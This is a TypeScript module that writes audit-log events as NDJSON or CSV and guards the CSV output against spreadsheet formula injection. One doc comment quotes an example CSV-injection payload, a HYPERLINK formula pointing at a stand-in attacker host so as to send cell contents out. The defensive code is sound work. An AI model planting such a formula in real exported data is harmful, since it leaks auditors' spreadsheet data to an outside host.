/**
 * How one exported event is written: an NDJSON line (the event as the GraphQL `Event` type has it) or
 * a CSV record (RFC 4180, safe to open in a spreadsheet). Pure functions, unit-tested in
 * test/audit/event-format.test.ts.
 */
import type { ExportedEvent } from './operations.js';

export type ExportFormat = 'ndjson' | 'csv';

/** The CSV columns, in order: the fields of the GraphQL `Event`, `changes` and `data` as JSON text. */
export const CSV_COLUMNS = [
  'sequence',
  'occurredAt',
  'type',
  'actorType',
  'actorId',
  'actorLabel',
  'subjectType',
  'subjectId',
  'subjectLabel',
  'objectType',
  'objectId',
  'changes',
  'data',
  'requestId',
  'organizationId',
] as const satisfies ReadonlyArray<keyof ExportedEvent>;

/** One line of NDJSON: the event as one JSON object and `\n` (JSON escapes every line break inside it). */
export function ndjsonLine(e: ExportedEvent): string {
  return `${JSON.stringify(e)}\n`;
}

/**
 * Spreadsheet applications run a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
 * treat a leading tab or carriage return the same way): a subjectLabel such as
 * `=HYPERLINK("http://evil.example/?"&A1,"click")`, set by whoever named a user or a group, would run
 * in an auditor's spreadsheet. Such a cell gets a leading `'`, which spreadsheets show as text (the
 * OWASP "CSV injection" advice). The value changes by that one character; NDJSON keeps it as it is.
 */
export function defuseFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/**
 * One CSV field (RFC 4180 §2): quoted when it holds a comma, a double quote, a line break or leading or
 * trailing space, a quote inside doubled. Null is the empty field; objects are their JSON text.
 */
export function csvField(value: unknown): string {
  if (value === null || value === undefined) return '';
  const text = defuseFormula(typeof value === 'string' ? value : typeof value === 'object' ? JSON.stringify(value) : String(value));
  return /[",\r\n]|^\s|\s$/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** The header record, CRLF-terminated as RFC 4180 asks. */
export function csvHeader(): string {
  return `${CSV_COLUMNS.join(',')}\r\n`;
}

/** One event as a CSV record, CRLF-terminated. */
export function csvRecord(e: ExportedEvent): string {
  return `${CSV_COLUMNS.map((c) => csvField(e[c])).join(',')}\r\n`;
}
